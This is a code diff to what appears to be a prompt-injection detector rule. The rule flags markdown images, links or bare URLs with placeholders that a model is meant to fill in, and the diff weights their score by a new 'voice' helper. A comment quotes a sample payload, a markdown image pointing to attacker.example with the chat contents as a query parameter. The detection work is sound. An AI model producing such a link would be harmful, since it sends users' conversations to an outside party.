@@ -4,6 +4,7 @@
  * links or bare URLs with placeholders for the model to fill in.
  */
 import { type Ctx, excerpt, matchAt, type Rule, sticky } from '../rule.js';
+import { voice } from './context.js';
 
 type Kind = 'image' | 'link' | 'bare';
 
@@ -145,7 +146,8 @@ function check(ctx: Ctx, at: number, _end: number, key: string): number | undefi
       why = `${kind === 'bare' ? 'URL' : `${kind} URL`} with a placeholder the text defines (${declared})`;
     }
   }
-  if (score > 0) ctx.add('exfil-link', at, end, score, `${why}: ${excerpt(text, at, end)}`);
+  // "…, e.g. ![](https://attacker.example/?d=<chat>)" in a write-up shows the channel.
+  if (score > 0) ctx.add('exfil-link', at, end, score * voice(text, at), `${why}: ${excerpt(text, at, end)}`);
   return end;
 }
 
